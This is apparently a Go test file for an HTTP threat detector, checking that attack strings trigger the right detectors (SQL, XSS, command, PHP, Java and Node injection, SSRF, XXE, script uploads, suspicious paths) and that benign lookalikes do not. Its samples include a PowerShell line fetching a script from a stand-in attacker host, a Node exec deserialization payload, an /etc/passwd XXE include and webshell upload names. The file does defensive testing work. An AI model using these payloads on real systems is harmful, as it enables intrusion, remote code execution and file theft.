package threat

import (
	"fmt"
	"net/url"
	"testing"
)

// TestFragmentDetectors pins the java/node/upload detectors and the sharpened sqli, xss,
// cmd, php, ssrf and path checks: each attack names the detector that must fire, each benign
// value (phrases and snippets that mention the same things) must raise nothing.
func TestFragmentDetectors(t *testing.T) {
	h, err := NewHTTP(HTTPConfig{})
	if err != nil {
		t.Fatal(err)
	}
	query := func(v string) []Finding {
		r, err := ParseHTTPRequest([]byte("GET /s?q=" + url.QueryEscape(v) + " HTTP/1.1\r\nHost: app\r\n\r\n"))
		if err != nil {
			t.Fatal(err)
		}
		return h.Inspect(&r, nil)
	}
	attacks := []struct{ v, want string }{
		{"java.lang.Runtime", JavaInjection},
		{"%{(#_memberAccess['allowStaticMethodAccess']=true)}", JavaInjection},
		{"rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", JavaInjection},
		{"org.apache.commons.collections.functors.InvokerTransformer", JavaInjection},
		{"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", NodeInjection},
		{"constructor.prototype.isAdmin=true", NodeInjection},
		{"while(true);", NodeInjection},
		{"1 union/**/select 1,2", SQLi},
		{"benchmark(10000000,md5(1))", SQLi},
		{"ORDER BY 3--", SQLi},
		{"pay=hex(", SQLi},
		{"';SELECT P", SQLi},
		{"admin@example.com';", SQLi},
		{"alert(1)", XSS},
		{"window[\"alert\"](window[\"document\"][\"cookie\"])", XSS},
		{"\"onzoom=alert(1)", XSS},
		{"(![]+[])[+!+[]]", XSS},
		{"powershell -enc SQBFAFgA", CmdInjection},
		{"Invoke-WebRequest -Uri http://evil.example/a.ps1", CmdInjection},
		{"for /f \"tokens=*\" %i in ('whoami') do echo %i", CmdInjection},
		{"/bi[n]/bash", CmdInjection},
		{"<!--#exec cmd=\"id\" -->", CmdInjection},
		{"<? system('id'); ?>", PHPInjection},
		{"(system)('id')", PHPInjection},
		{"O:8:\"stdClass\":1:{s:1:\"a\";i:2;}", PHPInjection},
		{"$_GET['c']", PHPInjection},
		{"http://kubernetes.default.svc/api", SSRF},
		{"{\"$ne\": null}", NoSQLInjection},
		{"<xi:include href=\"file:///etc/passwd\"/>", XXE},
	}
	for _, a := range attacks {
		f := query(a.v)
		found := false
		for _, x := range f {
			found = found || x.Detector == a.want
		}
		if !found {
			t.Errorf("%q: got %v, want %s", a.v, f, a.want)
		}
	}
	benign := []string{
		"convert java.lang.String to int", "java.lang.NullPointerException when calling getName()",
		"ProcessBuilder vs Runtime.exec in Java", "what is __proto__ in javascript", "while(true) loop in java",
		"union select vs union all performance", "database() call failed", "sleep(8) hours", "sin(x) + cos(x)",
		"alert() not working in safari", "the 'online' flag", "Invoke-WebRequest returns 403", "if exist in batch scripts",
		"$_GET and $_POST in php for beginners", "<?php tags in wordpress themes", "system(s) requirements",
		"connect to host.docker.internal from a container", "id;name;email", "order by date desc", "O'Brien & Sons",
		"sig=Qm9ndXMvb25lPQ/onAbc=", "![screenshot](img.png)", "Price: $25 (incl. VAT)",
	}
	for _, v := range benign {
		if f := query(v); len(f) > 0 {
			t.Errorf("benign %q flagged: %v", v, f[0])
		}
	}
}

// TestScriptUploadAndPaths: upload names and request paths.
func TestScriptUploadAndPaths(t *testing.T) {
	h, err := NewHTTP(HTTPConfig{})
	if err != nil {
		t.Fatal(err)
	}
	inspect := func(raw string) []Finding {
		r, err := ParseHTTPRequest([]byte(raw))
		if err != nil {
			t.Fatal(err)
		}
		return h.Inspect(&r, nil)
	}
	for _, name := range []string{"shell.php", "a.jspx", "x.php5...", "photo. php", ".htaccess", "sess_abcdefghijklmnopqrstuv"} {
		if f := inspect("PUT /upload HTTP/1.1\r\nHost: app\r\nX-File-Name: " + name + "\r\n\r\n"); len(f) == 0 || f[0].Detector != ScriptUpload {
			t.Errorf("X-File-Name %q: got %v, want %s", name, f, ScriptUpload)
		}
		body := fmt.Sprintf("--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"%s\"\r\n\r\nx\r\n--b--\r\n", name)
		raw := fmt.Sprintf("POST /up HTTP/1.1\r\nHost: app\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
		if f := inspect(raw); len(f) == 0 || f[0].Detector != ScriptUpload {
			t.Errorf("multipart %q: got %v, want %s", name, f, ScriptUpload)
		}
	}
	for _, name := range []string{"holiday.photo.2024.jpg", "Q3 report (final).pdf", "index.html", "notes.md"} {
		if f := inspect("PUT /upload HTTP/1.1\r\nHost: app\r\nX-File-Name: " + name + "\r\n\r\n"); len(f) > 0 {
			t.Errorf("X-File-Name %q flagged: %v", name, f[0])
		}
	}
	for _, p := range []string{"/.claude/settings.json", "/.aiignore", "/backup.sql.zip", "/app/edit.jsp~", "/x/if(now()=sysdate(),sleep(12),0)"} {
		if f := inspect("GET " + p + " HTTP/1.1\r\nHost: app\r\n\r\n"); len(f) == 0 {
			t.Errorf("path %q not flagged", p)
		}
	}
	for _, p := range []string{"/.well-known/openid-configuration", "/.netlify/functions/x", "/static/app.v2.min.js", "/docs/information_schema.html"} {
		if f := inspect("GET " + p + " HTTP/1.1\r\nHost: app\r\n\r\n"); len(f) > 0 {
			t.Errorf("path %q flagged: %v", p, f[0])
		}
	}
}

// TestMarkerSetsFit: every marker list fits its table (newMarkerSet panics otherwise) and
// finds its own markers in any case.
func TestMarkerSetsFit(t *testing.T) {
	for _, ms := range []*markerSet{javaSet, sqlOnlySet, phpOnlySet, powershellSet, nodeAlwaysSet, nodeShortSet, phpMarkerSet, sqlMiscSet, xssMarkerSet, winCmdSet, ssrfSet, ssrfHostSet} {
		for k, m := range ms.list {
			up := []byte(m)
			for i := range up {
				if 'a' <= up[i] && up[i] <= 'z' {
					up[i] -= 'a' - 'A'
				}
			}
			v := append([]byte("xx "), up...)
			if i := ms.scanK(v, func(_, j int) bool { return j == k }); i != 3 {
				t.Errorf("marker %q not found in %q (got %d)", m, v, i)
			}
		}
	}
}
